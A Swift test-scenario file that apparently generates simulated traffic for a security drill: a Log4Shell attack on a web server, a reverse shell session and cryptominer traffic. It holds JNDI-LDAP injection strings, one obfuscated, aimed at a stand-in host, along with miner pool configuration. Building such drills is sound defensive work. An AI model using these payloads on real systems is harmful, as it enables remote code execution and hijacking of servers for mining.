import TestSupport

extension Scenario {
    /// A server with a weakness that everybody knows.
    static var serverDrill: [Scenario] { [knownVulnerability] }

    /// A lookup that a logging library resolves, the shell that it opens, and the coins that are mined there.
    private static var knownVulnerability: Scenario {
        var day = DrillDay(port: 56801)
        day.everyday(until: 840, pace: 20, seed: 56801, ["192.0.2.5", "192.0.2.21", "203.0.113.148"])
        let (attacker, server) = ("203.0.113.102", "198.51.100.11")
        func ask(_ header: String) -> String {
            Text.request("GET", "/dang-nhap", host: "motcua.example", headers: [header])
        }
        day.web(
            at: 45, attacker, server, 8080,
            asks: "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n")
        day.web(
            at: 120, attacker, server, 8080,
            asks: ask("X-Api-Version: $" + "{${sys:x:-j}ndi:ldap://drill.invalid/c}"))
        day.web(
            at: 150, attacker, server, 8080, asks: ask("X-Api-Version: $" + "{jndi:ldap://drill.invalid/a}"))
        day.talk(at: 152, server, attacker, 1389) { talk in
            // A bind request and its answer (RFC 4511 section 4.2); where the class would be is left out.
            talk.client(sends: [0x30, 0x0c, 2, 1, 1, 0x60, 7, 2, 1, 3, 4, 0, 0x80, 0])
            talk.server(sends: [0x30, 0x0c, 2, 1, 1, 0x61, 7, 0x0a, 1, 0, 4, 0, 4, 0])
        }
        day.talk(at: 156, server, "203.0.113.90", 4444) { talk in
            talk.client(sends: "bash: no job control in this shell\nmotcua@ung-dung:/opt/motcua$ ")
            for command in ["uptime", "ls /tmp"] {
                talk.wait(seconds: 45)
                talk.server(sends: command + "\n")
                talk.client(sends: command + "\ndien tap\nmotcua@ung-dung:/opt/motcua$ ")
            }
        }
        let wallet = "4A" + String(repeating: "Dientap", count: 13) + "Dp"
        day.web(
            at: 456, server, "203.0.113.67",
            asks: Text.request("GET", "/config.json", host: "tainguyen.example"),
            gets: Text.response(
                "{\n  \"donate-level\": 1,\n  \"pools\": [ {\n    \"url\": \"drill.invalid:3333\",\n"
                    + "    \"user\": \"\(wallet)\"\n  } ]\n}\n", type: "text/plain"))
        day.talk(at: 510, server, "203.0.113.96", 14444) { talk in
            talk.client(
                sends: #"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":""# + wallet
                    + #"","pass":"x","agent":"XMRig/6.0 (drill)","algo":["rx/0"]}}"# + "\n")
            talk.wait(seconds: 120)
        }
        return Scenario("drills/known-vulnerability", day)
    }
}
